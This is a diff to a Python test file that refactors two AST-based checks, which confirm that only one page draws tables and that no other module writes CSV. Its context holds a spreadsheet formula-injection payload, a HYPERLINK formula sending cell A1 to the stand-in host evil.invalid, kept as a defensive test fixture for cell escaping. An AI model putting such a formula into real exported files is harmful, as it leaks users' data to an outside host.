@@ -16,6 +16,7 @@ from dispatch_core.find import MatchRow
 from dispatch_core.text.spreadsheet import csv_file, csv_text, plain_cell, safe_cell
 from dispatch_core.types import DataAsset, Exclusion, Reason
 from dispatch_core.views.report import assets_text, ledger_text, match_report_text
+from tests.support.syntax import syntax_of
 
 ROOT = Path(__file__).resolve().parents[1]
 HYPERLINK = '=HYPERLINK("http://evil.invalid?"&A1,"click")'
@@ -101,7 +102,7 @@ def test_only_one_file_draws_tables_and_it_escapes_their_cells() -> None:
     drawing = {
         path.relative_to(ROOT).as_posix()
         for path in (ROOT / "pages").rglob("*.py")
-        for node in ast.walk(ast.parse(path.read_text("utf-8")))
+        for node in ast.walk(syntax_of(path))
         if isinstance(node, ast.Attribute) and node.attr in ("dataframe", "table")
     }
 
@@ -113,7 +114,7 @@ def test_no_other_module_writes_csv() -> None:
         path.relative_to(ROOT).as_posix()
         for folder in ("dispatch_core", "pages")
         for path in (ROOT / folder).rglob("*.py")
-        for node in ast.walk(ast.parse(path.read_text("utf-8")))
+        for node in ast.walk(syntax_of(path))
         if isinstance(node, ast.Attribute)
         and node.attr in ("writer", "DictWriter", "to_csv", "to_excel")
     }
